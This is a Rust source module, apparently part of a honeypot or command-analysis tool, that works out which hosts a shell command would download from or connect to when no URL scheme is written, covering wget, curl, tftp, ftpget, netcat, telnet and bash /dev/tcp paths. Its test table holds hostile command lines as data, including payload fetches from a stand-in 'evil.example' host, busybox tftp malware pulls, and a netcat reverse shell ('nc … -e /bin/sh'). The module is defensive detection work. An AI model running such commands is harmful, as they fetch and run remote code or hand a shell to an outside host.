//! What a command would fetch from elsewhere, or whom it would call, where no address with a scheme says so.

use super::words::downloads;
use alloc::{
    format,
    string::{String, ToString},
    vec::Vec,
};

/// Addresses of one command, and the bytes of one.
const ADDRESSES_MAX: usize = 4;
const ADDRESS_BYTES_MAX: usize = 512;

/// The addresses that the words of one command mean without naming a scheme: `wget 198.51.100.9/a` is `http://198.51.100.9/a`.
pub(super) fn wanted(words: &[&[u8]]) -> Vec<Vec<u8>> {
    let words = match words {
        [first, rest @ ..] if last_part(first) == b"busybox" => rest,
        words => words,
    };
    let [name, arguments @ ..] = words else { return Vec::new() };
    let found: Vec<String> = match last_part(name) {
        b"wget" => web(arguments, b"OPoaUTtQwiBl"),
        b"curl" => web(arguments, b"oHAdXuxebcmwFTCKEDtrPQyYz"),
        b"tftp" | b"atftp" => tftp(arguments).into_iter().collect(),
        b"ftpget" => {
            let plain = plain(arguments, b"upP");
            let file = plain.get(2).or_else(|| plain.get(1));
            plain
                .first()
                .zip(file)
                .map(|(host, file)| format!("ftp://{host}/{}", file.trim_start_matches('/')))
                .into_iter()
                .collect()
        }
        b"nc" | b"ncat" | b"netcat" | b"telnet" => called(arguments).into_iter().collect(),
        _ => Vec::new(),
    };
    found
        .into_iter()
        .take(ADDRESSES_MAX)
        .map(|address| address.into_bytes().into_iter().take(ADDRESS_BYTES_MAX).collect())
        .collect()
}

/// Addresses that wait to be told, each once.
#[derive(Clone, Debug, Default)]
pub(super) struct Addresses(Vec<Vec<u8>>);

/// Those that are kept.
const KEPT_MAX: usize = 8;

impl Addresses {
    /// What the words of a command name or mean.
    pub(super) fn hear(&mut self, words: &[&[u8]]) {
        words.iter().flat_map(|word| downloads(word)).for_each(|address| self.keep(address));
        wanted(words).iter().for_each(|address| self.keep(address));
    }

    pub(super) fn keep(&mut self, address: &[u8]) {
        let address = &address[..address.len().min(ADDRESS_BYTES_MAX)];
        if self.0.len() < KEPT_MAX && !self.0.iter().any(|known| known == address) {
            self.0.push(address.to_vec());
        }
    }

    /// All of them; none is left.
    pub(super) fn take(&mut self) -> Vec<Vec<u8>> {
        core::mem::take(&mut self.0)
    }
}

/// The address that a path of bash's stands for: `/dev/tcp/198.51.100.9/4444`.
pub(super) fn called_by_path(path: &str) -> Option<Vec<u8>> {
    let (kind, rest) = path.strip_prefix("/dev/")?.split_once('/')?;
    let (host, port) = rest.split_once('/').filter(|_| matches!(kind, "tcp" | "udp"))?;
    (!host.is_empty() && !port.is_empty() && rest.len() < ADDRESS_BYTES_MAX)
        .then(|| format!("{kind}://{host}:{port}").into_bytes())
}

fn last_part(word: &[u8]) -> &[u8] {
    word.rsplit(|byte| *byte == b'/').next().unwrap_or_default()
}

/// The words that are no options, nor values of those that want one.
fn plain(arguments: &[&[u8]], wants: &[u8]) -> Vec<String> {
    let (mut all, mut rest) = (Vec::new(), arguments);
    while let [word, behind @ ..] = rest {
        rest = behind;
        match word {
            [b'-', b'-', ..] => {}
            [b'-', letters @ ..] if !letters.is_empty() => {
                // The last of several letters may want a value, which stands behind it or next.
                let at = letters.iter().position(|letter| wants.contains(letter));
                if at.is_some_and(|at| at + 1 == letters.len()) {
                    rest = rest.get(1..).unwrap_or_default();
                }
            }
            word => all.extend(core::str::from_utf8(word).ok().filter(|word| !word.is_empty()).map(ToString::to_string)),
        }
    }
    all
}

fn web(arguments: &[&[u8]], wants: &[u8]) -> Vec<String> {
    let is_host = |word: &String| !word.contains("://") && (word.contains('.') || word.contains(':')) && !word.starts_with('.');
    plain(arguments, wants).into_iter().filter(is_host).map(|word| format!("http://{word}")).collect()
}

/// busybox's `tftp -g -r file host`, and `tftp host -c get file`.
fn tftp(arguments: &[&[u8]]) -> Option<String> {
    let behind = |option: &[u8]| {
        let at = arguments.iter().position(|word| word.starts_with(option))?;
        let value = if arguments[at].len() > option.len() { &arguments[at][option.len()..] } else { arguments.get(at + 1)? };
        core::str::from_utf8(value).ok()
    };
    let words = plain(arguments, b"rlb");
    let (host, file) = match words.as_slice() {
        [host, get, file, ..] if get == "get" => (host, file.as_str()),
        [host, ..] => (host, behind(b"-r").or_else(|| behind(b"-l")).unwrap_or_default()),
        [] => return None,
    };
    let port = words
        .get(1)
        .filter(|port| port.bytes().all(|byte| byte.is_ascii_digit()))
        .map_or(String::new(), |port| format!(":{port}"));
    Some(format!("tftp://{host}{port}/{}", file.trim_start_matches('/')))
}

fn called(arguments: &[&[u8]]) -> Option<String> {
    let words = plain(arguments, b"ecpswiq");
    let host = words.first().filter(|host| !host.bytes().all(|byte| byte.is_ascii_digit()))?;
    let port = words.get(1).filter(|port| port.bytes().all(|byte| byte.is_ascii_digit()));
    Some(format!("tcp://{host}:{}", port.map_or("23", |port| port.as_str())))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drive::said;

    #[test]
    fn what_has_no_scheme_is_an_address_all_the_same() {
        let table = [
            ("wget 198.51.100.9/a.sh -O /tmp/a", "http://198.51.100.9/a.sh"),
            ("busybox wget -qO- evil.example:8080/x", "http://evil.example:8080/x"),
            ("curl -o x -H a.b 198.51.100.9:81/x", "http://198.51.100.9:81/x"),
            ("curl -sO http://198.51.100.9/x", ""),
            ("tftp -g -l a -r mips 198.51.100.9", "tftp://198.51.100.9/mips"),
            ("/bin/busybox tftp -r arm7 -g 198.51.100.9 69", "tftp://198.51.100.9:69/arm7"),
            ("tftp 198.51.100.9 -c get a.sh", "tftp://198.51.100.9/a.sh"),
            ("ftpget -v -u anonymous -p x -P 21 198.51.100.9 a.sh b.sh", "ftp://198.51.100.9/b.sh"),
            ("nc 198.51.100.9 4444 -e /bin/sh", "tcp://198.51.100.9:4444"),
            ("nc -lvp 4444", ""),
            ("wget", ""),
            ("echo a.b", ""),
        ];
        for (line, address) in table {
            let words: Vec<&[u8]> = line.split(' ').map(str::as_bytes).collect();
            assert_eq!(wanted(&words).iter().map(|found| said(found)).collect::<Vec<_>>().join(" "), address, "{line}");
        }
        assert_eq!(
            called_by_path("/dev/tcp/198.51.100.9/4444").map(|found| said(&found)),
            Some("tcp://198.51.100.9:4444".into())
        );
        assert_eq!(called_by_path("/dev/null"), None);
    }
}
